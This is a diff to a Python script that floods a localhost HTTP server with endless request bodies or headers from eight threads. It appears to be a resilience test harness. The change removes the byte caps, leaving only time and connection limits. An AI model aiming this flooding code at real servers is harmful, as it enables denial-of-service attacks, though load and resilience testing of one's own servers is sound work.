@@ -19,7 +19,6 @@ from dataclasses import dataclass, field
 ATTACKER = "127.0.0.2"
 THREADS = 8
 MOST_CONNECTIONS = 500_000
-MOST_BYTES = {"bodies": 1_500_000_000, "headers": 1_100_000_000}
 HALF_SENT = 3_000
 CHUNK = 64 * 1024
 UPGRADE = (
@@ -62,14 +61,14 @@ def connect(port: int) -> socket.socket:
     return socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(ATTACKER, 0))
 
 
-def flood(port: int, until: float, sent: Sent, opening: bytes, repeated: bytes, most_bytes: float) -> None:
+def flood(port: int, until: float, sent: Sent, opening: bytes, repeated: bytes) -> None:
     """Send the same again and again, over a new connection whenever the server has closed the last one."""
-    while time.monotonic() < until and sent.connections < MOST_CONNECTIONS and sent.megabytes * 1e6 < most_bytes:
+    while time.monotonic() < until and sent.connections < MOST_CONNECTIONS:
         try:
             with connect(port) as line:
                 sent.add(connections=1)
                 line.sendall(opening)
-                while time.monotonic() < until and sent.megabytes * 1e6 < most_bytes:
+                while time.monotonic() < until:
                     line.sendall(repeated)
                     sent.add(len(repeated))
         except OSError:
@@ -135,8 +134,7 @@ def main() -> None:
             "bodies": (POST, b"%x\r\n%s\r\n" % (CHUNK, b"a" * CHUNK)),
             "headers": (b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n", b"X-Long: " + b"a" * CHUNK + b"\r\n"),
         }[chosen.kind]
-        most_bytes = MOST_BYTES.get(chosen.kind, float("inf"))
-        in_threads(lambda: flood(chosen.port, until, sent, opening, repeated, most_bytes))
+        in_threads(lambda: flood(chosen.port, until, sent, opening, repeated))
     sent.seconds = time.monotonic() - began
     print(sent.summary())
 
